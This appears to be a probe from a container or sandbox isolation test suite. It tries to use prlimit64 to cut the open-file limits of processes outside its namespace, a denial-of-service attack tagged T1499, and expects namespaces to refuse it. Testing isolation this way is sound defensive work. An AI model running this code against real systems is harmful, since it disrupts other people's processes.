"""Lower the limits of a process outside.

gain: a core or gateway that can open nothing
attack: T1499
stopped by: pid namespace, user namespace
unconfined: host
also refused by: ESRCH
"""

import ctypes
import struct

from attacker import Refused, call, each, first


def attempt(world):
    def lower(pid):
        if pid == 1:
            raise Refused("its own first process is its own")
        call("prlimit64", pid, 7, ctypes.create_string_buffer(struct.pack("2Q", 3, 4096)), 0)
        return f"lowered the descriptors of process {pid}"

    return first(*each(world["pids"], lower))
